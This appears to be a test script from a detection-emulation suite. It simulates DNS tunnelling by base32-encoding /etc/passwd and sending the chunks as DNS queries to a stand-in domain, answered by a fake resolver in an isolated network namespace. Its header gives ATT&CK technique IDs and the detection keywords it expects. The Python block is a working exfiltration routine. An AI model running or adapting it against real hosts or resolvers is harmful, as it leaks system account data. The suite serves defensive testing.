#!/bin/bash
# vigil-emulation: attack
# technique: T1048.003 Exfiltration Over Alternative Protocol: Exfiltration Over Unencrypted Non-C2 Protocol; T1071.004 Application Layer Protocol: DNS
# tactic: exfiltration, command-and-control
# what: DNS tunnelling: /etc/passwd is base32-encoded and sent as 50-character labels of
#   A queries (`<seq>.<chunk>.<chunk>.t.vigil-emul.example`), 20 per second, to a
#   "resolver" on the far end of a veth pair in a private network namespace
#   (198.18.x.2:53, not the host's configured resolver).
# report: DNS tunnelling: many queries with long high-entropy labels under one domain,
#   from one process, to a resolver the host does not use.
# expect: dns tunnel|tunnel|dns exfil|dga|entropy|resolver
. "${EMUL_LIB:-$(dirname "$0")/../lib}/common.sh"
emul_need ip

emul_veth_pair
emul_tmpdir
: >"$EMUL_DIR/ready"
emul_bg ip netns exec "$EMUL_NS" "$PY" "$SERVERS" dns --host "$EMUL_PEER_IP" --port 53 \
    --ready-file "$EMUL_DIR/ready"
emul_ready "$EMUL_DIR/ready" >/dev/null
"$PY" - "$EMUL_PEER_IP" <<'PY'
import base64, random, socket, struct, sys, time
resolver = sys.argv[1]
data = base64.b32encode(open("/etc/passwd", "rb").read()).decode().rstrip("=").lower()
chunks = [data[i:i + 50] for i in range(0, len(data), 50)]
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(0.5)
answered = 0
for seq in range(0, len(chunks), 2):
    labels = [f"{seq:04x}"] + chunks[seq:seq + 2] + ["t", "vigil-emul", "example"]
    q = struct.pack("!HHHHHH", random.randrange(65536), 0x0100, 1, 0, 0, 0)
    q += b"".join(bytes([len(l)]) + l.encode() for l in labels) + b"\0" + struct.pack("!HH", 1, 1)
    s.sendto(q, (resolver, 53))
    try:
        s.recv(512)
        answered += 1
    except socket.timeout:
        pass
    time.sleep(0.05)
print(f"{len(chunks)} chunks sent, {answered} answers")
PY
